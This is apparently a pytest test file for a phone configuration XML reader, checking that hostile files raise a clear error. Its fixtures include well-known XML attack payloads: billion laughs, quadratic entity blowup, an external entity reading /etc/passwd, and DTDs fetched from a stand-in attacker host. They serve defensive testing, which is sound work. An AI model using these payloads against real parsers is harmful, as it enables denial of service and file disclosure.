"""Untrusted configuration XML (SPEC 4.4): every hostile file is a ConfigFormatError, never another exception.

The reader (``phone.wire.config``) goes through defusedxml with DTDs refused; these
tests prove it for the classic attacks and pin the bugs hostile input found
(numbers ``int`` cannot read, encodings expat cannot read, nesting deeper than
Python's recursion limit). Through the phone machine: tests/test_hostile_phone.py.
"""

from __future__ import annotations

import time

import hypothesis.strategies as st
import pytest
from hypothesis import given, settings

from phone.wire.config import MAX_CONFIG_BYTES, MAX_TVS_MEMBERS, PhoneConfig, TvsMember, render_config
from phone.errors import ConfigFormatError

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<device><TVS><members><member priority="0"><port>2445</port><address>&lol9;</address></member></members></TVS></device>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE device [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<device><TVS><members><member priority="0"><address>&xxe;</address></member></members></TVS></device>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE device SYSTEM "http://attacker.invalid/evil.dtd">
<device/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE device [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x"> %remote; ]>
<device/>
"""

# Quadratic blowup: one big entity referenced many times (no nesting, so no depth limit catches it).
QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "' + b"x" * 50_000 + b'">]><device>'
             + b"&a;" * 20_000 + b"</device>")


def member_xml(port: str = "2445", priority: str = "0", address: str = "10.0.0.1") -> bytes:
    return (f'<device><TVS><members><member priority="{priority}"><port>{port}</port>'
            f"<address>{address}</address></member></members></TVS></device>").encode()


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, QUADRATIC],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "quadratic-blowup"],
)
def test_entity_and_dtd_attacks_are_refused_fast_with_a_clear_error(document):
    started = time.perf_counter()
    with pytest.raises(ConfigFormatError, match=r"^SEP1\.cnf\.xml: refused unsafe XML \(DTDForbidden\)$"):
        PhoneConfig.from_bytes(document, source="SEP1.cnf.xml")
    assert time.perf_counter() - started < 1.0  # refused at the DOCTYPE, nothing expanded


def test_a_file_over_the_size_limit_is_refused_before_parsing():
    with pytest.raises(ConfigFormatError, match="too large for a phone configuration"):
        PhoneConfig.from_bytes(b"<device>" + b" " * MAX_CONFIG_BYTES + b"</device>")


@pytest.mark.parametrize(
    ("port", "shown"),
    [("\u00b2", "'\u00b2'"), ("\u0663", "'\u0663'"), ("9" * 5000, "'" + "9" * 20 + "'"), ("0", "'0'"),
     ("65536", "'65536'"), ("-1", "'-1'"), ("24 45", "'24 45'")],
    ids=["superscript-two", "arabic-indic-three", "5000-digits", "zero", "too-big", "negative", "space"],
)
def test_a_port_that_is_not_an_ascii_tcp_port_is_a_clear_error(port, shown):
    # Found by hostile input: "²".isdigit() is True and int("²") raises ValueError;
    # int() of more than 4300 digits raises ValueError too.
    with pytest.raises(ConfigFormatError, match=f"port {shown} is not a TCP port"):
        PhoneConfig.from_bytes(member_xml(port=port))


@pytest.mark.parametrize("priority", ["\u00b2", "\u0663", "1" * 5000, "1e3", "--1"])
def test_a_priority_that_is_not_an_ascii_integer_is_a_clear_error(priority):
    with pytest.raises(ConfigFormatError, match="priority .* is not a number of at most 9 digits"):
        PhoneConfig.from_bytes(member_xml(priority=priority))


@pytest.mark.parametrize("mode", ["\u00b2", "9" * 5000, "-1", "one"])
def test_a_device_security_mode_that_is_not_a_small_number_is_ignored(mode):
    document = f"<device><deviceSecurityMode>{mode}</deviceSecurityMode></device>".encode()
    assert PhoneConfig.from_bytes(document).device_security_mode is None


def test_negative_priorities_still_sort_first():
    document = (b'<device><TVS><members><member priority="3"><address>b</address></member>'
                b'<member priority="-1"><address>a</address></member></members></TVS></device>')
    assert [m.address for m in PhoneConfig.from_bytes(document).tvs_members] == ["a", "b"]


@pytest.mark.parametrize(
    "document",
    [b"<?xml version='1.0' encoding='bogus'?><device/>", b"<?xml version='1.0' encoding='utf-32'?><device/>"],
    ids=["unknown-encoding", "multi-byte-encoding"],
)
def test_an_encoding_expat_cannot_read_is_a_clear_error(document):
    # Found by hostile input: LookupError and ValueError escaped the reader.
    with pytest.raises(ConfigFormatError, match="unreadable XML encoding"):
        PhoneConfig.from_bytes(document)


def test_nesting_deeper_than_the_recursion_limit_is_read_without_recursion():
    # Found by hostile input: minidom's getElementsByTagName recursed once per level
    # (RecursionError at ~1000 levels; this file is 700 KB, under the size limit).
    depth = 100_000
    document = b"<device>" + b"<a>" * depth + member_xml() + b"</a>" * depth + b"</device>"
    assert len(document) < MAX_CONFIG_BYTES
    config = PhoneConfig.from_bytes(document)
    assert config.tvs_members == (TvsMember("10.0.0.1", 2445, 0),)


@pytest.mark.parametrize(
    "document",
    [b"", b"<", b"<device>", b"<device></dev>", b"\x00<device/>", b"<device/><device/>", b"\xff\xfe\xfd",
     b"<device a='1' a='2'/>", b"<device><![CDATA[</device>"],
)
def test_malformed_xml_names_line_and_column(document):
    with pytest.raises(ConfigFormatError, match=r"not well-formed XML at line \d+, column \d+"):
        PhoneConfig.from_bytes(document)


def test_an_error_about_a_member_stays_on_one_line_whatever_its_address_holds():
    with pytest.raises(ConfigFormatError) as caught:
        PhoneConfig.from_bytes(member_xml(port="x", address="evil\nSECOND LINE" + "a" * 500))
    message = str(caught.value)
    assert "\n" not in message and len(message) < 200
    assert "TVS member 'evil\\nSECOND LINE" in message


def test_a_member_without_address_is_a_clear_error():
    with pytest.raises(ConfigFormatError, match="a TVS member without an <address>"):
        PhoneConfig.from_bytes(b"<device><TVS><members><member priority='0'><port>1</port></member></members></TVS></device>")


# -- properties ---------------------------------------------------------------------------

ADDRESSES = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zs", "Zl", "Zp")),
                    min_size=1, max_size=30)
MEMBERS = st.builds(TvsMember, ADDRESSES, st.integers(1, 65535), st.integers(-999, 999_999_999))


@settings(max_examples=60, deadline=None)
@given(members=st.lists(MEMBERS, max_size=8), capf=st.lists(ADDRESSES, max_size=3), mode=st.integers(0, 4))
def test_render_then_read_gives_back_the_members_a_phone_uses(members, capf, mode):
    document = render_config(members, device_name="SEPB000B4BA0AEE", capf_servers=tuple(capf),
                             device_security_mode=mode)
    config = PhoneConfig.from_bytes(document)
    assert config.tvs_members == tuple(sorted(members, key=lambda m: m.priority))[:MAX_TVS_MEMBERS]
    assert config.capf_servers == tuple(capf)
    assert config.device_security_mode == mode


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=200).map(lambda t: f"<device>{t}</device>".encode()))
def test_any_bytes_give_a_config_or_a_config_format_error(data):
    try:
        config = PhoneConfig.from_bytes(data)
    except ConfigFormatError as error:
        assert "\n" not in str(error)
        return
    assert len(config.tvs_members) <= MAX_TVS_MEMBERS
    assert all(0 < member.port < 65536 for member in config.tvs_members)


def test_the_secure_elements_are_read_as_cucm_writes_them():
    from phone.wire.config import CallManager, CapfServer
    document = render_config([], device_name="SEP001122334455", capf_servers=("pub",), capf_port=13804,
                             device_security_mode=2,
                             call_managers=(CallManager("pub", 12000, 15060, 15061),), capf_auth_mode=3)
    config = PhoneConfig.from_bytes(document)
    assert config.capf_list == (CapfServer("pub", 13804),) and config.capf_auth_mode == 3
    assert config.call_managers == (CallManager("pub", 12000, 15060, 15061),)
    assert (config.transport_layer_protocol, config.full_config, config.encrypted_config) == (3, True, False)


def test_a_stub_says_it_is_one():
    document = (b"<device><fullConfig>false</fullConfig><certHash>ABCDEF</certHash>"
                b"<encrConfig>true</encrConfig><capfList><capf><phonePort>99999</phonePort>"
                b"<processNodeName>pub</processNodeName></capf></capfList></device>")
    config = PhoneConfig.from_bytes(document)
    assert (config.full_config, config.encrypted_config, config.cert_hash) == (False, True, "abcdef")
    assert config.capf_list[0].port == 3804  # not a TCP port: the phone's default
